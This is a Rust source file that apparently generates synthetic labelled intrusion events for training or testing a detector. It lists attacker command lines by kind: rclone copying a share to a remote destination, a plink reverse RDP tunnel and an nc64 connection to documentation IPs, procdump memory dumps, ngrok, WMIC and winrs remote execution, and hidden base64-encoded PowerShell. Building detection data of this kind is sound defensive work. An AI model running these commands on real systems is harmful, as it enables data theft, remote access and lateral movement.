//! Kinds of intrusion, and the programs and command lines of each.

/// What an intruder does. The names are the values of the label column `kind`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A tool nobody else has.
    RareTool,
    /// A harmless tool, hundreds of times within minutes.
    Burst,
    /// A service account on a workstation.
    ForeignAccount,
    /// A hidden PowerShell with an encoded script, from a person who has no use for one.
    EncodedPowershell,
    /// Commands sent to servers from a person's desk.
    LateralMovement,
}

impl Kind {
    pub const ALL: [Kind; 5] = [
        Kind::RareTool,
        Kind::Burst,
        Kind::ForeignAccount,
        Kind::EncodedPowershell,
        Kind::LateralMovement,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Kind::RareTool => "rare_tool",
            Kind::Burst => "burst",
            Kind::ForeignAccount => "foreign_account",
            Kind::EncodedPowershell => "encoded_powershell",
            Kind::LateralMovement => "lateral_movement",
        }
    }

    /// The programs it may use.
    pub fn tools(self) -> &'static [Tool] {
        match self {
            Kind::RareTool => RARE_TOOLS,
            Kind::Burst => BURST_TOOLS,
            Kind::ForeignAccount => FOREIGN_TOOLS,
            Kind::EncodedPowershell => ENCODED_TOOLS,
            Kind::LateralMovement => LATERAL_TOOLS,
        }
    }

    /// Turns a filled line of a tool into the command line of the event.
    pub fn finish(self, line: String) -> String {
        match self {
            Kind::EncodedPowershell => encoded(&line),
            _ => line,
        }
    }
}

/// A program and the command lines an intruder chooses from.
pub struct Tool {
    pub program: &'static str,
    pub lines: &'static [&'static str],
}

#[rustfmt::skip]
const RARE_TOOLS: &[Tool] = &[
    Tool { program: "AdFind.exe", lines: &[
        r#"C:\Users\Public\AdFind.exe -f "(objectcategory=computer)" name operatingSystem"#,
        r#"C:\Users\Public\AdFind.exe -sc trustdmp"#,
    ] },
    Tool { program: "rclone.exe", lines: &[
        r#"C:\Users\Public\Music\rclone.exe copy "\\contoso.com\files\{folder}" drop:{hex 6} --config C:\Users\Public\Music\r.conf --transfers 8"#,
    ] },
    Tool { program: "plink.exe", lines: &[r"C:\Windows\Temp\plink.exe -N -R 8443:127.0.0.1:3389 sync@198.51.100.{digits 2}"] },
    Tool { program: "nc64.exe", lines: &[r"C:\Users\{user}\AppData\Local\Temp\nc64.exe -w 3 203.0.113.{digits 2} 443"] },
    Tool { program: "SharpShares.exe", lines: &[r"C:\Windows\Temp\SharpShares.exe /ldap:all /threads:{digits 2}"] },
    Tool { program: "procdump64.exe", lines: &[r"C:\Users\{user}\Downloads\procdump64.exe -accepteula -ma {digits 4} C:\Windows\Temp\{hex 6}.dmp"] },
    Tool { program: "ngrok.exe", lines: &[r"C:\Users\{user}\AppData\Local\Temp\ngrok.exe tcp 3389 --region eu"] },
];

#[rustfmt::skip]
const BURST_TOOLS: &[Tool] = &[
    Tool { program: "net.exe", lines: &[
        r"net user {first name}.{last name} /domain",
        r#"net group "{folder} Users" /domain"#,
    ] },
    Tool { program: "PING.EXE", lines: &[r"ping -n 1 -w 200 192.0.2.{digits 2}", r"ping -n 1 -w 200 198.51.100.{digits 2}"] },
    Tool { program: "nslookup.exe", lines: &[r"nslookup ws-{digits 4}.contoso.com", r"nslookup sql-{digits 4}.contoso.com"] },
];

#[rustfmt::skip]
const FOREIGN_TOOLS: &[Tool] = &[
    Tool { program: "cmd.exe", lines: &[
        r"cmd.exe /c whoami /all",
        r"cmd.exe /c nltest /domain_trusts",
        r#"cmd.exe /c net group "Domain Admins" /domain"#,
        r"cmd.exe /c dir \\contoso.com\files\{folder} /s > C:\Windows\Temp\{hex 6}.txt",
        r"cmd.exe /c systeminfo",
    ] },
];

/// The lines are scripts; `encoded` makes the command line.
#[rustfmt::skip]
const ENCODED_TOOLS: &[Tool] = &[
    Tool { program: "powershell.exe", lines: &[
        r"Start-Sleep -Seconds {digits 2}; Test-NetConnection 192.0.2.{digits 2} -Port 443 | Out-Null; Get-Date | Out-Null",
        r"$name = '{host}'; 1..{digits 2} | ForEach-Object { Start-Sleep -Milliseconds {digits 3} }; Resolve-DnsName {hex 8}.example.com | Out-Null",
    ] },
];

#[rustfmt::skip]
const LATERAL_TOOLS: &[Tool] = &[
    Tool { program: "WMIC.exe", lines: &[
        r#"wmic /node:"{server}" process call create "cmd.exe /c hostname > C:\Windows\Temp\{hex 6}.txt""#,
        r#"wmic /node:"{server}" computersystem get username"#,
    ] },
    Tool { program: "winrs.exe", lines: &[
        r#"winrs.exe -r:{server} cmd /c "hostname & quser""#,
        r#"winrs.exe -r:{server} cmd /c "dir C:\Users > C:\Windows\Temp\{hex 6}.txt""#,
    ] },
];

/// A PowerShell command line that hides a script as `-EncodedCommand` does: base64 of UTF-16.
fn encoded(script: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut line = String::from("powershell.exe -NoP -NonI -W Hidden -Enc ");
    for three in bytes.chunks(3) {
        let bits = (0..3).fold(0, |bits, i| {
            bits << 8 | u32::from(*three.get(i).unwrap_or(&0))
        });
        for digit in 0..4 {
            let value = bits >> (18 - 6 * digit) & 63;
            line.push(if digit <= three.len() {
                DIGITS[value as usize] as char
            } else {
                '='
            });
        }
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_encoded_as_powershell_reads_them() {
        // echo -n 'hi' | iconv -t UTF-16LE | base64
        assert!(encoded("hi").ends_with(" aABpAA=="));
        assert!(encoded("dir").ends_with(" ZABpAHIA"));
    }
}
